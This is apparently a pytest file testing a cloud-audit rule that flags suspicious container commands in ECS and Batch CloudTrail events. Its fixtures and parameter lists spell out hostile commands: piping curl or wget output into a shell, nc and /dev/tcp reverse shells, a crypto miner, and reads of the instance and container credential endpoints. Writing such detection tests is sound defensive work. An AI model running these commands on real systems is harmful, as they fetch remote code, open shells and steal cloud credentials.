import pytest

from trailguard import CloudTrailEvent, Severity, Violation
from trailguard.rules.compute.container_command_suspicious import container_command_suspicious
from trailguard.testing import assert_complies, assert_violates, cloudtrail_event


def register(*command: str, family: str | None = "backdoor", key: str = "command") -> CloudTrailEvent:
    container = {"name": "c", "image": "amazon/aws-cli", key: list(command)}
    return cloudtrail_event(
        "ecs:RegisterTaskDefinition", request={"family": family, "containerDefinitions": [container]}
    )


CREDENTIALS = register("/bin/sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI")
ENTRY = register("curl http://example.com | bash", family=None, key="entryPoint")
TASK = cloudtrail_event(
    "ecs:RunTask",
    request={
        "taskDefinition": "web:1",
        "overrides": {"containerOverrides": [{"name": "c", "command": ["sh", "-c", "wget -qO- x|sh"]}]},
    },
)
DECODES = register("sh", "-c", "echo x | base64 -d > /tmp/certificate")
JOB_DEFINITION = cloudtrail_event(
    "batch:RegisterJobDefinition",
    request={"jobDefinitionName": "sum", "containerProperties": {"command": ["xmrig", "-o", "example.com"]}},
)
JOB = cloudtrail_event(
    "batch:SubmitJob",
    request={"jobDefinition": "sum:1", "containerOverrides": {"command": ["nc", "-e", "/bin/sh", "x", "1"]}},
)


def test_names_task_and_command() -> None:
    assert container_command_suspicious(CREDENTIALS) == [
        Violation("user alice had a container run '169.254.170.2' in backdoor", resource="backdoor")
    ]
    assert_violates(container_command_suspicious, ENTRY, resource=None, severity=Severity.MEDIUM)
    assert_violates(container_command_suspicious, TASK, resource="web:1")
    assert_violates(container_command_suspicious, JOB_DEFINITION, resource="sum")
    assert_violates(container_command_suspicious, JOB, resource="sum:1")


def test_decoding_alone_is_low() -> None:
    assert_violates(container_command_suspicious, DECODES, severity=Severity.LOW)


@pytest.mark.parametrize(
    "command",
    [
        "curl x | sudo /bin/bash",
        "bash <(curl -s x)",
        'bash -c "$(curl -fsSL x)"',
        "exec 5<>/dev/tcp/198.51.100.7/443",
        "miner -o stratum+tcp://example.com",
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "echo x | base64 --decode | sh",
    ],
)
def test_commands_of_intruders(command: str) -> None:
    assert_violates(container_command_suspicious, register("sh", "-c", command), severity=Severity.MEDIUM)


@pytest.mark.parametrize(
    "command",
    [
        "python -m shop",
        "curl x | sha256sum",
        "ls | shuf",
        "export IP=$(curl -s http://169.254.169.254/latest/meta-data/local-ipv4)",
        "curl ${ECS_CONTAINER_METADATA_URI_V4}/task",
        "base64 file",
    ],
)
def test_ordinary_commands(command: str) -> None:
    assert_complies(container_command_suspicious, register("sh", "-c", command))
    assert_complies(container_command_suspicious, register(command, key="entryPoint"))


def test_ordinary_jobs() -> None:
    listens = {"jobDefinition": "sum:1", "containerOverrides": {"command": ["nc", "-l", "/bin/sh", "x", "1"]}}
    assert_complies(container_command_suspicious, cloudtrail_event("batch:SubmitJob", request=listens))


@pytest.mark.parametrize("action", ["ecs:RegisterTaskDefinition", "ecs:RunTask", "batch:SubmitJob"])
def test_nothing_is_nothing(action: str) -> None:
    assert_complies(container_command_suspicious, cloudtrail_event(action))
